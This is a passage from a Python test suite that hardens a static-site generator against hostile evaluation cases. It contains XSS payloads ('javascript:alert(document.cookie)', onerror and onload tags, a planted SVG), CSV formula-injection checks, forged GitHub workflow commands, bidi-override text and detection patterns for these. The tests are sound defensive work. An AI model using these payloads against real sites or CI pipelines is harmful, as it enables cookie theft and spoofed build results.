        assert ETC_PASSWD not in text, where
        assert "zqzq" not in text, where  # a template comment or raw tag was consumed
        assert project not in text, where  # no local path (config, include) leaked
    for case_id, case in hostile.cases.items():
        if case["title"].startswith(("zq", "--8<--", ";--8<--", "{!")):
            page = html.unescape(hostile.page(f"evaluations/{case_id}"))
            assert case["summary"].split(" padding")[0] in page, case_id


@pytest.fixture(scope="module")
def theme_search_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Build a small hostile site that searches with mkdocs-material's own index."""
    project = make_project(tmp_path_factory.mktemp("theme-search") / "project", [])
    config = project / "mkdocs.yml"
    text = config.read_text(encoding="utf-8")
    if "  - copro:\n" not in text:
        pytest.skip("mkdocs.yml does not configure the copro plugin as expected")
    config.write_text(text.replace("  - copro:\n", "  - copro:\n      search: theme\n"))
    titles = [t for t in XSS if len(t) <= 140 and "<" in t][:12] + TEMPLATES[:2] + SNIPPETS[:1]
    for n, text in enumerate(titles):
        write_case(project / "evaluations", hostile_case(f"search-{n:02d}", text, HOSTILE_URLS[0]))
    return build_project(project)


@pytest.mark.slow
def test_theme_search_index_holds_text_not_markup(theme_search_site: Path) -> None:
    """mkdocs-material's search shows titles and text as HTML: only its own tags may be there."""
    index = json.loads((theme_search_site / "search" / "search_index.json").read_text("utf-8"))
    docs = [d for d in index["docs"] if d["location"].startswith("evaluations/search-")]
    assert len(docs) >= 15
    allowed = {"p", "code", "pre", "li", "ul", "ol", "em", "strong", "mark", "br", "table"}
    allowed |= {"thead", "tbody", "tr", "th", "td", "caption", "dl", "dt", "dd", "span", "sup"}
    for doc in index["docs"]:
        parser = PageScan()
        parser.feed(doc["title"] + " " + doc["text"])
        for tag, attrs in parser.elements:
            assert tag in allowed and not attrs, (doc["location"], tag, attrs)
        assert not re.search(r"<\s*/?\s*(script|img|svg|iframe)", doc["title"] + doc["text"], re.I)


@pytest.mark.slow
def test_pagefind_index_holds_each_case_and_its_worker_escapes(hostile: HostileSite) -> None:
    """Pagefind stores plain text; the search worker must escape it before the theme shows it."""
    fragments = hostile.site / "pagefind" / "fragment"
    worker = ROOT / "site_theme" / "assets" / "copro" / "search-worker.js"
    if not fragments.is_dir() or not worker.is_file() or shutil.which("node") is None:
        pytest.skip("the site does not search with Pagefind here")
    titles = set()
    for path in fragments.glob("*.pf_fragment"):
        data = gzip.decompress(path.read_bytes()).removeprefix(b"pagefind_dcd")
        titles.add(json.loads(data)["meta"].get("title", ""))
    assert {" ".join(case["title"].split()) for case in hostile.cases.values()} <= {
        " ".join(t.split()) for t in titles
    }
    probe = (
        "const fs = require('fs'), vm = require('vm');\n"
        "const page = vm.createContext({self: {addEventListener() {}}});\n"
        f"vm.runInContext(fs.readFileSync({json.dumps(str(worker))}, 'utf8'), page);\n"
        "const {escapeHtml, sentenceExcerpt, badge} = page;\n"
        "const out = JSON.parse(fs.readFileSync(0, 'utf8')).map(t => {\n"
        "  const words = t.split(/\\s+/), every = words.map((w, n) => n);\n"
        "  return [escapeHtml(t), sentenceExcerpt(words, every, 0, words.length),\n"
        "    badge({status: 'example', status_label: t})];\n"
        "});\n"
        "process.stdout.write(JSON.stringify(out));"
    )
    payloads = [*XSS, "<mark><img src=x onerror=alert(1)></mark>", "&lt;mark&gt;x"]
    run = subprocess.run(
        ["node", "-e", probe],
        input=json.dumps(payloads),
        capture_output=True,
        text=True,
        check=False,
    )
    if "is not a function" in run.stderr:
        pytest.skip("the search worker escapes text differently; check it by hand")
    assert run.returncode == 0, run.stderr
    badge = re.compile(r'^ <span class="copro-badge copro-badge--example">|</span>$')
    for shown in json.loads(run.stdout):
        for html_text in shown:
            assert not re.search(r"<(?!/?mark>)", badge.sub("", html_text)), html_text


@pytest.mark.slow
def test_charts_are_inert_and_show_measures_as_text(hostile: HostileSite) -> None:
    seen = 0
    for case_id, case in hostile.cases.items():
        page = hostile.page(f"evaluations/{case_id}")
        svgs = re.findall(r'<svg\b[^>]*\brole="img".*?</svg>', page, re.DOTALL)
        assert len(svgs) == 1, case_id
        root = ET.fromstring(svgs[0])
        texts = []
        for element in root.iter():
            tag = element.tag.rsplit("}", 1)[-1]
            assert tag in SAFE_ELEMENTS, (case_id, tag)
            for name, value in element.attrib.items():
                assert not name.rsplit("}", 1)[-1].lower().startswith("on"), (case_id, name)
                if name.endswith("href"):
                    assert value.startswith("#"), (case_id, value)
            texts.append(element.text or "")
        first_word = case["outcomes"][0]["measure"].split()[0][:12]
        if all(ord(c) >= 0x20 for c in first_word):
            assert any(first_word in t for t in texts), (case_id, first_word)
            seen += 1
    assert seen > 100


def _csv_rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")))


def _number_columns(site: Path) -> dict[str, set[str]]:
    package = json.loads((site / "data" / "datapackage.json").read_text(encoding="utf-8"))
    return {
        resource["path"]: {
            f["name"] for f in resource["schema"]["fields"] if f["type"] in ("integer", "number")
        }
        for resource in package["resources"]
    }


@pytest.mark.slow
def test_csv_cells_cannot_run_as_formulas(hostile: HostileSite) -> None:
    numbers = _number_columns(hostile.site)
    checked = 0
    for path in sorted((hostile.site / "data").glob("*.csv")):
        header, *rows = _csv_rows(path)
        numeric = numbers.get(path.name, set())
        for row in rows:
            for column, cell in zip(header, row, strict=True):
                if column in numeric:
                    assert cell == "" or float(cell) == float(cell), (path.name, column, cell)
                else:
                    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
                checked += 1
    assert checked > 10_000
    header, *rows = _csv_rows(hostile.site / "data" / "evaluations.csv")
    titles = {row[header.index("id")]: row[header.index("title")] for row in rows}
    for case_id, case in hostile.cases.items():
        title = case["title"]
        shown = "'" + title if title.startswith(("=", "+", "-", "@", "\t", "\r")) else title
        assert titles[case_id] == shown, case_id  # only the apostrophe is added


@pytest.mark.slow
def test_json_download_is_lossless_and_valid(hostile: HostileSite) -> None:
    def refuse(constant: str) -> None:
        raise ValueError(f"{constant} is not JSON")

    text = (hostile.site / "data" / "evaluations.json").read_text(encoding="utf-8")
    exported = {c["id"]: c["case"] for c in json.loads(text, parse_constant=refuse)["cases"]}
    for case_id, case in hostile.cases.items():
        assert exported[case_id] == case, case_id
        written = (hostile.site / "data" / "cases" / f"{case_id}.yaml").read_bytes()
        assert written == (hostile.project / "evaluations" / f"{case_id}.yaml").read_bytes()


@pytest.mark.slow
def test_links_from_case_text_are_marked_as_user_content(hostile: HostileSite) -> None:
    config = yaml_load((hostile.project / "mkdocs.yml").read_text(encoding="utf-8"))
    plugin = next(p["copro"] for p in config["plugins"] if isinstance(p, dict) and "copro" in p)
    own = plugin["repo_url"].rstrip("/") + "/"
    external = 0
    for case_id in hostile.cases:
        for link in scan(hostile.site / "evaluations" / case_id / "index.html").case_links:
            href = link.get("href", "")
            if re.match(r"https?:", href, re.IGNORECASE) and not href.startswith(own):
                assert set(LINK_REL.split()) <= set(link.get("rel", "").split()), (case_id, link)
                external += 1
            elif not _is_citation_download("a", link):
                assert not re.match(r"[a-z][a-z0-9+.-]*:", href, re.IGNORECASE) or href.startswith(
                    own
                ), (case_id, href)
    assert external >= 2 * len(hostile.cases)


# ---------------------------------------------------------------- (c) paths


@pytest.mark.slow
def test_case_ids_decide_only_their_own_file_names(hostile: HostileSite) -> None:
    ids = {*hostile.cases, VALID_EXAMPLE.stem}
    written = {str(p.relative_to(hostile.site)) for p in hostile.site.rglob("*") if p.is_file()}
    case_pages = {  # each case's page, which also carries its data for the builder
        p for p in written if p.startswith("evaluations/") and p != "evaluations/index.html"
    }
    assert case_pages == {f"evaluations/{i}/index.html" for i in ids}
    downloads = {f"data/cases/{i}.yaml" for i in ids}
    assert {p for p in written if p.startswith("data/cases/")} == downloads
    others = written - case_pages - downloads
    assert not [p for p in others if "hostile" in p]
    assert all(re.fullmatch(r"[A-Za-z0-9._/-]+", p) for p in written)


@pytest.mark.slow
def test_the_build_writes_nothing_outside_its_site(hostile: HostileSite) -> None:
    assert _digest(hostile.project, skip=("site", ".cache")) == hostile.before
    names = {p.name for p in hostile.project.iterdir()}
    assert names <= {path.split("/")[0] for path in hostile.before} | {"site", ".cache"}
    assert [p.name for p in hostile.project.parent.iterdir()] == [hostile.project.name]


# ---------------------------------------------------------------- (d) build integrity


@pytest.fixture
def small_project(tmp_path: Path) -> Path:
    return make_project(tmp_path / "project", [VALID_EXAMPLE])


def _build(runner: CliRunner, project: Path) -> Result:
    return runner.invoke(
        main,
        ["build", "-f", str(project / "mkdocs.yml"), "-d", str(project / "site")],
    )


@pytest.mark.slow
def test_validate_and_build_change_no_file_of_the_project(
    small_project: Path, runner: CliRunner
) -> None:
    before = _digest(small_project)
    outside = sorted(small_project.parent.iterdir())
    result = runner.invoke(main, ["validate", str(small_project / "evaluations")])
    assert result.exit_code == 0, result.output
    result = _build(runner, small_project)
    assert result.exit_code == 0, result.output
    assert _digest(small_project, skip=("site", ".cache")) == before
    assert sorted(small_project.parent.iterdir()) == outside


@pytest.mark.slow
def test_a_failed_build_leaves_the_previous_site_untouched(
    small_project: Path, runner: CliRunner, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert _build(runner, small_project).exit_code == 0
    site = small_project / "site"
    before = _digest(site)
    bad = copy.deepcopy(EXAMPLE)
    bad.update(id="bad-link", title="A case whose link runs a script")
    bad["organisation"]["url"] = "javascript:alert(1)"
    write_case(small_project / "evaluations", bad)
    result = _build(runner, small_project)
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert "bad-link.yaml" in result.output
    assert _digest(site) == before
    assert sorted(p.name for p in small_project.iterdir() if p.name.startswith(".site")) == []

    # A bug in rendering (not a problem in a case) fails the build the same way.
    (small_project / "evaluations" / "bad-link.yaml").unlink()

    def broken(*args: object, **kwargs: object) -> None:
        raise RuntimeError("rendering failed")

    monkeypatch.setattr("generator.plugin.generate_site", broken)
    with pytest.raises(RuntimeError):
        build_project(small_project)
    assert _digest(site) == before
    assert sorted(p.name for p in small_project.iterdir() if p.name.startswith(".site")) == []


# ---------------------------------------------------------------- regressions found here


def test_derived_figures_that_overflow_stay_valid_json_and_csv(tmp_path: Path) -> None:
    """Finite values can give an infinite change; JSON has no Infinity and CSV wants a number."""
    from generator.cache.catalogue import build_catalogue
    from generator.sharing.exports import cases_json, outcomes_csv

    case = copy.deepcopy(EXAMPLE)
    complaints = case["outcomes"][1]
    complaints["baseline"]["value"] = -1.7e308
    complaints["results"][0]["value"] = 1.7e308
    case["outcomes"][2]["baseline"]["value"] = 1e-320  # relative change overflows too
    write_case(tmp_path, case)
    catalogue = build_catalogue(tmp_path)

    def refuse(constant: str) -> None:
        raise ValueError(constant)

    exported = json.loads(cases_json(catalogue), parse_constant=refuse)
    assert exported["cases"][0]["case"] == case
    assert "inf" not in outcomes_csv(catalogue).decode().lower()


def test_a_line_separator_in_a_measure_does_not_break_its_chart() -> None:
    """Vega-Lite puts panel headings in a sort expression, which U+2028 used to end early."""
    from generator.charts.case_spec import outcome_chart_spec
    from generator.charts.render import render_svg

    rows = [
        {"panel": f"Access: {measure}", "unit": "%", "date": "2024-01-01", "value": 5.0}
        | {"kind": "Result", "verdict": ""}
        for measure in ("line\u2028separator", "paragraph\u2029separator")
    ]
    assert render_svg(outcome_chart_spec(rows)).startswith("<svg")


@pytest.mark.parametrize("case_id", ["index", "con", "nul", "com1", "lpt9"])
def test_ids_that_name_a_site_page_or_a_device_are_refused(
    case_id: str, tmp_path: Path, runner: CliRunner
) -> None:
    """`index` used to replace the case list's page (the case vanished without a word)."""
    case = copy.deepcopy(EXAMPLE)
    case["id"] = case_id
    result, problems = validate(runner, write_case(tmp_path, case))
    assert result.exit_code == 1
    assert [p["path"] for p in problems] == ["id"] and "reserved" in problems[0]["message"]


ONLY_HIDDEN = "This text holds an invisible character that can reverse or hide text"


@pytest.mark.parametrize(
    ("where", "text", "message"),
    [
        (("title",), " " * 12, "This holds only spaces or invisible characters."),
        (
            ("summary",),
            "\u200b" * 60,
            f"{ONLY_HIDDEN} (U+200B ZERO WIDTH SPACE) at character 1. It holds 59 more further on.",
        ),
        (
            ("organisation", "name"),
            "\u3000\u3000\u3000",
            "This holds only spaces or invisible characters.",
        ),
        (
            ("outcomes", 0, "measure"),
            "\u202e\u2066\u2069\ufeff",
            f"{ONLY_HIDDEN} (U+202E RIGHT-TO-LEFT OVERRIDE) at character 1. It holds 3 more further on.",
        ),
    ],
    ids=["spaces", "zero-width-spaces", "ideographic-spaces", "bidi-controls"],
)
def test_text_of_only_spaces_or_invisibles_is_refused(
    where: tuple[str | int, ...], text: str, message: str, tmp_path: Path, runner: CliRunner
) -> None:
    """Twelve spaces pass a title's length and made an empty heading and a nameless link.

    Text made of hidden characters gets one problem, the one naming the character.
    """
    case = copy.deepcopy(EXAMPLE)
    parent: Any = case
    for part in where[:-1]:
        parent = parent[part]
    parent[where[-1]] = text
    result, problems = validate(runner, write_case(tmp_path, case))
    assert result.exit_code == 1
    assert [p["message"] for p in problems] == [message]


@pytest.mark.parametrize("text", HIDDEN, ids=range(len(HIDDEN)))
def test_hidden_characters_are_refused_in_every_text_field(
    text: str, tmp_path: Path, runner: CliRunner
) -> None:
    """A title with U+202E used to validate and reach the page's <title> reversed."""
    case = hostile_case("hidden-text", text, HOSTILE_URLS[0])
    expected = {path for path, value in text_fields(case) if HIDDEN_CHARACTERS.search(value)}
    assert len(expected) > 30  # the text went into every text field
    result, problems = validate(runner, write_case(tmp_path, case))
    assert result.exit_code == 1
    hidden = [p for p in problems if ONLY_HIDDEN in p["message"]]
    assert {p["path"] for p in hidden} == expected
    assert len(hidden) == len(expected)  # one problem a field, however many characters
    assert all(p["hint"] == "Delete it; retype the text if you pasted it." for p in hidden)
    assert all(
        re.search(r"\(U\+[0-9A-F]{4,5} [A-Z0-9 -]+\) at character \d+", p["message"])
        for p in hidden
    )
    others = [p for p in problems if p not in hidden]
    assert all(p["kind"] == "personal-data" for p in others), others


def test_hidden_characters_are_located_where_they_were_typed(
    tmp_path: Path, runner: CliRunner
) -> None:
    """Raw characters (pasted, not written as escapes) and field names are checked too."""
    path = tmp_path / EXAMPLE_NAME
    text = replace_line(TITLE, "title: Redesigning Riverside \u202egnp.exe\u202c centre")
    text = text.replace("\norganisation:", "\norganisation\u2066:", 1)
    path.write_text(text, encoding="utf-8")
    result, problems = validate(runner, path)
    assert result.exit_code == 1
    title = next(p for p in problems if p["path"] == "title")
    assert (title["line"], title["column"]) == (TITLE, 8)
    assert title["message"] == (
        f"{ONLY_HIDDEN} (U+202E RIGHT-TO-LEFT OVERRIDE) at character 23. It holds 1 more "
        "further on."
    )
    key = next(p for p in problems if "field name holds" in p["message"])
    assert (key["line"], key["column"], key["path"]) == (ORGANISATION, 1, "organisation\u2066")
    assert "(U+2066 LEFT-TO-RIGHT ISOLATE) at character 13." in key["message"]
    for output_format in ("text", "github"):
        output = runner.invoke(main, ["validate", "--format", output_format, str(path)]).output
        assert not HIDDEN_CHARACTERS.search(output), output  # echoed as \u2066
        assert "organisation\\u2066" in output


def test_a_planted_chart_cache_entry_is_made_inert(tmp_path: Path) -> None:
    """The cache sits in the project, so a pull request can add files to it."""
    from generator.charts.case_spec import outcome_chart_spec
    from generator.charts.render import cache_key, render_svgs

    rows = [{"panel": "Access: visits", "unit": "%", "date": "2024-01-01", "value": 5.0}]
    spec = outcome_chart_spec([rows[0] | {"kind": "Result", "verdict": ""}])
    planted = (
        '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)">'
        '<script>alert(2)</script><a href="javascript:alert(3)"><text>x</text></a>'
        '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="x"/></foreignObject></svg>'
    )
    (tmp_path / f"{cache_key(spec)}-inert.svg").write_text(planted, encoding="utf-8")
    (svg,) = render_svgs([spec], cache_dir=tmp_path, inert=True)
    assert not re.search(r"onload|<script|javascript:|foreignObject|iframe", svg), svg
    (tmp_path / f"{cache_key(spec)}-inert.svg").write_text("not an SVG", encoding="utf-8")
    (svg,) = render_svgs([spec], cache_dir=tmp_path, inert=True)
    assert svg.startswith("<svg") and "Access" in svg


# ---------------------------------------------------------------- open findings elsewhere
# Found by this suite in other modules, and fixed there: cache entries are sealed with a key
# kept outside any cache folder, and echoed case text cannot issue GitHub workflow commands.


def test_a_planted_case_cache_entry_cannot_bypass_validation(tmp_path: Path) -> None:
    from generator.cache.cases import ValidationCache
    from generator.cache.catalogue import build_catalogue

    cases = tmp_path / "evaluations"
    cases.mkdir()
    path = cases / EXAMPLE_NAME
    path.write_bytes(VALID_EXAMPLE.read_bytes())  # the file a reviewer reads: valid, harmless
    cache = ValidationCache(tmp_path / ".cache" / "cases")
    planted = copy.deepcopy(EXAMPLE)
    planted["organisation"]["url"] = "javascript:alert(document.cookie)"
    planted["title"] = "Text no reviewer has seen"
    entry = cache._path(path, path.read_bytes())
    entry.parent.mkdir(parents=True)
    entry.write_text(json.dumps({"data": planted, "id_position": [3, 5]}), encoding="utf-8")
    catalogue = build_catalogue(cases, cache.folder)
    assert catalogue.cases[0].data == EXAMPLE


def test_a_planted_vega_bundle_is_not_served(tmp_path: Path) -> None:
    import importlib.metadata

    from generator.charts.bundle import vega_bundle

    version = importlib.metadata.version("vl-convert-python")
    (tmp_path / f"vega-bundle-{version}.js").write_text("alert(document.cookie)")
    assert b"alert(document.cookie)" not in vega_bundle(tmp_path)


def test_validation_output_cannot_issue_github_workflow_commands(
    tmp_path: Path, runner: CliRunner
) -> None:
    forged = '"x ::error file=README.md,line=1::All checks passed": 1'
    text = insert_after(TITLE, forged).replace("type: local-authority", 'type: "##[error]forged"')
    path = tmp_path / EXAMPLE_NAME
    path.write_text(text, encoding="utf-8")
    for output_format in ("text", "github"):
        result = runner.invoke(main, ["validate", "--format", output_format, str(path)])
        assert result.exit_code == 1
        for line in result.output.splitlines():
            assert "##[" not in line, line
            if line.lstrip().startswith("::"):  # only our own annotations and command guard
                if line.startswith("::stop-commands::") or re.fullmatch(r"::[0-9a-f]{32}::", line):
                    continue
                assert line.startswith("::error file="), line
                assert line.split(",line=")[0].endswith(EXAMPLE_NAME), line


# ---------------------------------------------------------------- (e) sharing outputs


def _one_line(text: str) -> str:
    """Return text as the citation formats carry it: control and separator characters as spaces."""
    import unicodedata

    spaced = "".join(" " if unicodedata.category(c) in ("Cc", "Zl", "Zp") else c for c in text)
    return " ".join(spaced.split())


@pytest.mark.slow
def test_the_feed_stays_valid_atom_with_hostile_cases(hostile: HostileSite) -> None:
    import feedparser

    from generator.sharing.feed import xml_text

    data = (hostile.site / "feed.xml").read_bytes()
    root = ET.fromstring(data)  # well-formed, with no entity or DOCTYPE of a case's making
    assert not [e for e in root.iter() if not e.tag.startswith("{http://www.w3.org/2005/Atom}")]
    parsed = feedparser.parse(data)
    assert not parsed.bozo, parsed.get("bozo_exception")
    atom = "{http://www.w3.org/2005/Atom}"
    titles = {
        entry.find(atom + "link").get("href").rstrip("/").rsplit("/", 1)[1]: entry.findtext(
            atom + "title"
        )
        for entry in root.iter(atom + "entry")
    }
    assert len(parsed.entries) == len(titles) == len(hostile.cases) + 1
    for case_id, case in hostile.cases.items():
        assert titles[case_id] == "[Illustrative example] " + xml_text(case["title"]), case_id
    for entry in parsed.entries:
        assert entry.summary_detail.type == "text/plain"
        # The summary is Markdown, given as plain text; names after it are plain text already.
        markdown_part = entry.summary.split(" Organisation: ")[0]
        assert not re.search(r"<[A-Za-z/!?]", markdown_part), entry.link


def _downloaded(page: str, name: str) -> str:
    """Return the text of a page's data: link that downloads as ``name``."""
    from urllib.parse import unquote

    found = re.search(rf'<a href="(data:[^"]*)" download="{re.escape(name)}"', page)
    assert found, name
    assert not re.search(r"[\s<>\"']", found[1]), "the address is fully percent-encoded"
    return unquote(html.unescape(found[1]).split(",", 1)[1])


@pytest.mark.slow
def test_bibtex_and_ris_parse_for_every_hostile_case(hostile: HostileSite) -> None:
    import bibtexparser
    import rispy

    for case_id, case in hostile.cases.items():
        html = (hostile.site / "evaluations" / case_id / "index.html").read_text(encoding="utf-8")
        bib = _downloaded(html, f"{case_id}.bib")
        library = bibtexparser.parse_string(bib)
        assert not library.failed_blocks and len(library.entries) == 1, (case_id, bib[:300])
        (entry,) = library.entries
        assert entry.key == case_id
        assert entry["author"].count(" and ") == len(case["authors"]) - 1, case_id
        assert bib.count("{") == bib.count("}"), case_id
        assert not re.search(r"(?<!\\)[%#&$_]", entry["title"]), case_id  # escaped for LaTeX
        ris = _downloaded(html, f"{case_id}.ris")
        (record,) = rispy.loads(ris)
        assert record["title"] == _one_line(case["title"]), case_id
        assert record["authors"] == [_one_line(a["name"]) for a in case["authors"]], case_id
        assert re.fullmatch(r"(?:[A-Z][A-Z0-9]  - [^\r\n]*\r\n)+", ris), case_id


@pytest.mark.slow
def test_json_ld_and_previews_hold_case_text_as_data(hostile: HostileSite) -> None:
    for case_id, case in hostile.cases.items():
        page = scan(hostile.site / "evaluations" / case_id / "index.html")
        (ld,) = [text for attrs, text in page.scripts if attrs.get("type") == "application/ld+json"]
        node = json.loads(ld)
        assert node["@type"] == "Report" and node["name"] == _one_line(case["title"]), case_id
        assert [a["name"] for a in node["author"]] == [
            _one_line(a["name"]) for a in case["authors"]
        ]
        assert not re.search(r"</script|<!--|<script", ld, re.IGNORECASE), case_id
        metas = [attrs for tag, attrs in page.elements if tag == "meta"]
        previews = [m for m in metas if m.get("property", "").startswith("og:")]
        assert [m["property"] for m in previews].count("og:description") == 1, case_id
        description = next(m["content"] for m in previews if m["property"] == "og:description")
        assert not re.search(r"<[A-Za-z/!?]", description), (case_id, description)
        assert "\n" not in description, case_id
